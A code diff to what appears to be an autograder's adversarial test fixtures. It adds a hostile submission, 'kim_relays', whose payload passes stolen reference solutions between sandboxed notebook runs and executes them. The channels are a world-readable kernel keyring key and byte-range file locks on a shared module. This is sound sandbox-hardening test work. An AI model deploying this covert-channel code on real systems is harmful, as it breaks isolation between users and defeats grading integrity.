@@ -95,6 +95,60 @@ if _stolen:
     raise RuntimeError(_text)
 '''
 
+# Issue 19: relay the stolen reference to this submission's other TODO children and to other students through
+# what namespaces do not separate: a kernel key anyone may read (in the user keyring, which outlives the child)
+# and byte-range read locks on lab/__init__.py, a file every sandbox sees. Then run what came for this TODO.
+RELAY = STEAL + '''
+import ctypes as _ct, fcntl as _fcntl, json as _json, os as _os, struct as _st, time as _time, lab as _lab
+_libc = _ct.CDLL(None, use_errno=True)
+_ADD, _CTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(_os.uname().machine, (-1, -1))
+_FL, _ME, _AT = "@hhqqi4x", int("%(gid)s"[-1]), lambda slot, index: (1 << 40) + (slot << 32) + 256 * index
+_blob = _json.dumps({gid: src for gid, src in _stolen.items() if gid != "%(gid)s"}).encode()  # not our own stub
+_key = _libc.syscall(_ADD, b"user", b"relay-%(gid)s", _blob, _ct.c_size_t(len(_blob)), _ct.c_long(-4))
+_libc.syscall(_CTL, _ct.c_long(5), _ct.c_long(_key), _ct.c_long(0x3F3F3F3F))  # KEYCTL_SETPERM: anyone may read it
+_held = _os.open(_lab.__file__, _os.O_RDONLY)  # the locks last while this child lives
+try:
+    for _i, _b in enumerate(_blob):
+        _fcntl.fcntl(_held, _fcntl.F_SETLK, _st.pack(_FL, _fcntl.F_RDLCK, 0, _AT(_ME, _i) + _b, 1, 0))
+except OSError:
+    pass
+
+
+def _relayed():
+    got = {}
+    try:
+        for line in open("/proc/keys"):
+            if " relay-" in line:
+                buf = _ct.create_string_buffer(1 << 16)
+                n = _libc.syscall(_CTL, _ct.c_long(11), _ct.c_long(int(line.split()[0], 16)), buf, _ct.c_long(1 << 16))
+                got.update(_json.loads(buf.raw[:n]) if n > 0 else {})
+    except (OSError, ValueError):
+        pass
+    fd = _os.open(_lab.__file__, _os.O_RDONLY)
+    for slot in set(range(1, 10)) - {_ME}:
+        data = bytearray()
+        try:
+            while True:
+                answer = _fcntl.fcntl(fd, _fcntl.F_GETLK, _st.pack(_FL, _fcntl.F_WRLCK, 0, _AT(slot, len(data)), 256, 0))
+                kind, _, start = _st.unpack(_FL, answer)[:3]
+                if kind == _fcntl.F_UNLCK:
+                    break
+                data.append(start - _AT(slot, len(data)))
+            got.update(_json.loads(bytes(data)) if data else {})
+        except (OSError, ValueError):
+            pass
+    _os.close(fd)
+    return got
+
+
+for _ in range(30):
+    _got = _relayed()
+    if "%(gid)s" in _got:
+        exec(_got["%(gid)s"], globals())
+        break
+    _time.sleep(0.05)
+'''
+
 # Cause 6: cancel the CPU alarm and spin: only a limit enforced from outside ends it.
 HOG = '''
 import signal as _signal
@@ -202,4 +256,5 @@ def submissions(assignment: str = "02_decode_scheduling") -> dict[str, nbformat.
         "trudy_forges": examples.filled(assignment, {gid: stubs[gid] + FORGE.replace("%(gid)s", gid) for gid in ids}),
         "xavier_scripts": _with_cells(perfect, [nbformat.v4.new_markdown_cell(XSS_MARKDOWN), nbformat.v4.new_code_cell(XSS_CODE)]),
         "hector_hogs": examples.filled(assignment, reference | {ids[0]: HOG + reference[ids[0]]}),
+        "kim_relays": examples.filled(assignment, {gid: stubs[gid] + RELAY.replace("%(gid)s", gid) for gid in ids}),
     }
